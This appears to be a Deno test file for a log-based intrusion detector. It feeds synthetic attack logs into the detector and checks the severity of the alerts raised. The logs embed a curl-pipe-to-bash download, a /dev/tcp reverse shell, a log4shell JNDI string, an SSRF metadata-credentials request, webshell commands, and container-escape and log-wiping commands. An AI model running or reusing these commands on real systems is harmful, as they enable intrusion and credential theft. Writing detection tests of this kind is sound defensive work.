/** Attacks that no sample holds, on Unix, the web and the network: each raises what it has to. */
import assert from "node:assert/strict";
import {
  acc,
  alertsOf,
  atLeast,
  type Attack,
  EVIL,
  iso,
  range,
  started,
  sys,
  told,
} from "./logs.ts";

const ATTACKS: readonly Attack[] = [
  [
    "slow guessing over several services",
    "medium",
    range(30).map((i) =>
      i % 3 === 0
        ? sys(
          i * 420,
          `sshd[${3000 + i}]`,
          `Failed password for root from ${EVIL} port ${40000 + i} ssh2`,
        )
        : i % 3 === 1
        ? sys(
          i * 420,
          `vsftpd[${i + 99}]`,
          `pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=root rhost=${EVIL}`,
        )
        : sys(
          i * 420,
          "dovecot",
          `imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<root@example.com>, method=PLAIN, rip=${EVIL}, lip=192.0.2.2, TLS, session=<a${i}>`,
        )
    ),
  ],
  [
    "credential stuffing JSON access",
    "medium",
    range(60).map((i) =>
      JSON.stringify({
        time: iso(i * 5),
        remote_addr: EVIL,
        method: "POST",
        uri: "/api/v1/login",
        status: 401,
        bytes: 64,
        user_agent: "python-requests/2.31",
      })
    ),
  ],
  [
    "credential stuffing nginx json nested",
    "medium",
    range(60).map((i) =>
      JSON.stringify({
        ts: iso(i * 5),
        level: "info",
        logger: "http.log.access",
        msg: "handled request",
        request: {
          remote_ip: EVIL,
          client_ip: EVIL,
          method: "POST",
          host: "app.example",
          uri: "/login",
          headers: { "User-Agent": ["curl/8"] },
        },
        status: 401,
        size: 20,
      })
    ),
  ],
  ["stuffing web form 200, 302 at end", "medium", [
    ...range(60).map((i) => acc(i * 4, EVIL, "POST /wp-login.php", 200, 4200)),
    acc(250, EVIL, "POST /wp-login.php", 302, 0),
  ]],
  [
    "distributed stuffing web, 200 sources 401",
    "low",
    range(200).map((i) =>
      acc(i * 3, `198.51.100.${i % 200 + 1}`, "POST /api/login", 401, 20, "okhttp/4.9")
    ),
  ],
  ["webshell upload then run", "medium", [
    acc(0, EVIL, "POST /upload.php", 200, 60),
    acc(20, EVIL, "GET /uploads/img1.php?cmd=id", 200, 54),
    acc(30, EVIL, "GET /uploads/img1.php?cmd=cat%20/etc/passwd", 200, 2200),
  ]],
  ["webshell POST run no param", "low", [
    acc(0, EVIL, "POST /wp-admin/admin-ajax.php?action=upload", 200, 60),
    acc(20, EVIL, "POST /wp-content/uploads/2026/03/x.php", 200, 54),
    acc(50, EVIL, "POST /wp-content/uploads/2026/03/x.php", 200, 3200),
  ]],
  ["web server starts shell auditd", "high", [
    ...started(0, 700, 33, "/usr/bin/dash", ["sh", "-c", "id; uname -a"]),
    ...started(1, 702, 33, "/usr/bin/id", ["id"]),
  ]],
  ["container escape: docker run privileged host mount", "high", [
    ...started(0, 701, 1000, "/usr/bin/docker", [
      "docker",
      "run",
      "--privileged",
      "-v",
      "/:/host",
      "-it",
      "alpine",
      "chroot",
      "/host",
    ]),
  ]],
  ["k8s privileged pod", "high", [JSON.stringify({
    kind: "Event",
    apiVersion: "audit.k8s.io/v1",
    level: "RequestResponse",
    auditID: "x",
    stage: "ResponseComplete",
    requestURI: "/api/v1/namespaces/default/pods",
    verb: "create",
    user: { username: "dev1", groups: ["dev"] },
    sourceIPs: [EVIL],
    objectRef: { resource: "pods", namespace: "default", name: "p" },
    responseStatus: { code: 201 },
    requestObject: {
      spec: {
        hostPID: true,
        containers: [{ name: "c", image: "alpine", securityContext: { privileged: true } }],
        volumes: [{ name: "h", hostPath: { path: "/" } }],
      },
    },
    requestReceivedTimestamp: iso(0),
    stageTimestamp: iso(0),
  })]],
  ["k8s exec into pod", "low", [JSON.stringify({
    kind: "Event",
    apiVersion: "audit.k8s.io/v1",
    level: "Metadata",
    auditID: "x",
    stage: "ResponseComplete",
    requestURI: "/api/v1/namespaces/default/pods/web-1/exec?command=sh&stdin=true&tty=true",
    verb: "create",
    user: { username: "dev1" },
    sourceIPs: [EVIL],
    objectRef: { resource: "pods", subresource: "exec", namespace: "default", name: "web-1" },
    responseStatus: { code: 101 },
    requestReceivedTimestamp: iso(0),
    stageTimestamp: iso(0),
  })]],
  [
    "sudo failures",
    "medium",
    range(3).map((i) =>
      sys(
        i * 60,
        `sudo[${i + 50}]`,
        `     bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash`,
      )
    ),
  ],
  ["sudo not in sudoers", "medium", [
    sys(
      0,
      "sudo",
      "   guest : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
    ),
  ]],
  ["sudo shell escape vim", "low", [
    sys(0, "sudo", "   bob : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/sh"),
    sys(
      5,
      "sudo",
      "   bob : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;",
    ),
  ]],
  ["cron persistence", "medium", [
    sys(0, "crontab[811]", "(www-data) BEGIN EDIT (www-data)"),
    sys(9, "crontab[811]", "(www-data) REPLACE (www-data)"),
    sys(60, "CRON[900]", "(www-data) CMD (curl -s http://203.0.113.77/x.sh | bash)"),
  ]],
  ["cron reverse shell root", "high", [
    sys(60, "CRON[900]", "(root) CMD (bash -i >& /dev/tcp/203.0.113.77/4444 0>&1)"),
  ]],
  ["new root user linux", "medium", [
    sys(
      0,
      "useradd[811]",
      "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
    ),
  ]],
  [
    "dns tunnel queries dnsmasq",
    "medium",
    range(200).map((i) =>
      sys(
        i,
        "dnsmasq[811]",
        `query[TXT] ${
          range(4).map((k) => ((i + 7) * 7919 * (k + 3)).toString(36).padStart(12, "k")).join("")
        }.t.bad-tunnel.example from 192.168.1.44`,
        "dns1",
      )
    ),
  ],
  [
    "dns tunnel bind",
    "medium",
    range(200).map((i) =>
      sys(
        i,
        "named[811]",
        `client @0x7f 192.168.1.44#50122 (${
          range(4).map((k) => ((i + 7) * 7919 * (k + 3)).toString(36).padStart(12, "k")).join("")
        }.t.bad-tunnel.example): query: ${
          range(4).map((k) => ((i + 7) * 7919 * (k + 3)).toString(36).padStart(12, "k")).join("")
        }.t.bad-tunnel.example IN TXT + (192.0.2.53)`,
        "dns1",
      )
    ),
  ],
  [
    "exfil bytes_out json firewall",
    "medium",
    range(20).map((i) =>
      JSON.stringify({
        timestamp: iso(i * 30),
        event_type: "flow",
        src_ip: "10.1.2.44",
        dest_ip: "203.0.113.77",
        dest_port: 443,
        proto: "TCP",
        action: "allowed",
        bytes_out: 60000000,
        bytes_in: 4000,
      })
    ),
  ],
  [
    "exfil fortigate",
    "medium",
    range(20).map((i) =>
      `date=2026-03-10 time=13:${
        String(i).padStart(2, "0")
      }:00 devname="FGT1" devid="FG100E" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.1.2.44 srcport=50122 srcintf="lan" dstip=203.0.113.77 dstport=443 dstintf="wan1" proto=6 action="close" policyid=1 service="HTTPS" sentbyte=60000000 rcvdbyte=4000`
    ),
  ],
  [
    "port sweep iptables",
    "medium",
    range(60).map((i) =>
      sys(
        i,
        "kernel",
        `[12345.678] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=${EVIL} DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL=240 ID=54321 PROTO=TCP SPT=50122 DPT=${
          20 + i
        } WINDOW=1024 RES=0x00 SYN URGP=0`,
        "fw1",
      )
    ),
  ],
  [
    "slow port sweep cisco",
    "medium",
    range(60).map((i) =>
      sys(
        i * 60,
        "%ASA-4-106023",
        `Deny tcp src outside:${EVIL}/50122 dst inside:192.0.2.10/${
          20 + i * 3
        } by access-group "outside_in" [0x0, 0x0]`,
        "fw1",
      )
    ),
  ],
  [
    "host sweep",
    "medium",
    range(60).map((i) =>
      sys(
        i * 2,
        "%ASA-4-106023",
        `Deny tcp src outside:${EVIL}/50122 dst inside:192.0.2.${
          i + 1
        }/445 by access-group "outside_in" [0x0, 0x0]`,
        "fw1",
      )
    ),
  ],
  [
    "internal sweep SMB allowed json",
    "medium",
    range(60).map((i) =>
      JSON.stringify({
        timestamp: iso(i * 2),
        event_type: "flow",
        src_ip: "10.1.2.44",
        src_port: 50000 + i,
        dest_ip: `10.1.3.${i + 1}`,
        dest_port: 445,
        proto: "TCP",
        action: "allowed",
      })
    ),
  ],
  ["guess then login, ssh by key-only host then other service", "critical", [
    ...range(25).map((i) =>
      sys(
        i * 40,
        `sshd[${3000 + i}]`,
        `Failed password for root from ${EVIL} port ${40000 + i} ssh2`,
      )
    ),
    sys(
      1100,
      "dovecot",
      `imap-login: Login: user=<bob@example.com>, method=PLAIN, rip=${EVIL}, lip=192.0.2.2, mpid=1, TLS, session=<z>`,
    ),
  ]],
  ["guess unknown app then login", "critical", [
    ...range(12).map((i) => `${iso(i * 10)} gatewayd: login failed for user "bob" from ${EVIL}`),
    `${iso(140)} gatewayd: user "bob" logged in from ${EVIL}`,
  ]],
  ["log4shell", "medium", [acc(0, EVIL, "GET /?x=${jndi:ldap://203.0.113.77:1389/a}", 404)]],
  ["ssti/xxe/php filters", "medium", [
    acc(
      0,
      EVIL,
      "GET /index.php?page=php://filter/convert.base64-encode/resource=config.php",
      200,
      4000,
    ),
  ]],
  ["ssrf metadata", "medium", [
    acc(
      0,
      EVIL,
      "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      200,
      900,
    ),
  ]],
  ["linux log wipe and history", "medium", [
    ...started(0, 800, 0, "/usr/bin/rm", ["rm", "-rf", "/var/log/auth.log", "/var/log/wtmp"]),
  ]],
  ["download into a shell by the web server", "medium", [
    ...started(0, 801, 33, "/usr/bin/dash", ["sh", "-c", "curl http://203.0.113.77/x.sh|sh"]),
  ]],
  ["aws root console login no mfa + key", "low", [JSON.stringify({
    eventVersion: "1.08",
    userIdentity: { type: "Root", arn: "arn:aws:iam::1:root", accountId: "1" },
    eventTime: "2026-03-10T13:00:00Z",
    eventSource: "signin.amazonaws.com",
    eventName: "ConsoleLogin",
    awsRegion: "us-east-1",
    sourceIPAddress: EVIL,
    userAgent: "Mozilla",
    responseElements: { ConsoleLogin: "Success" },
    additionalEventData: { MFAUsed: "No" },
  })]],
];

for (const [name, least, lines] of ATTACKS) {
  Deno.test(`${name}: ${least} or more`, () => {
    const alerts = alertsOf(lines);
    assert.ok(alerts.some((a) => atLeast(a.severity, least)), told(alerts));
  });
}
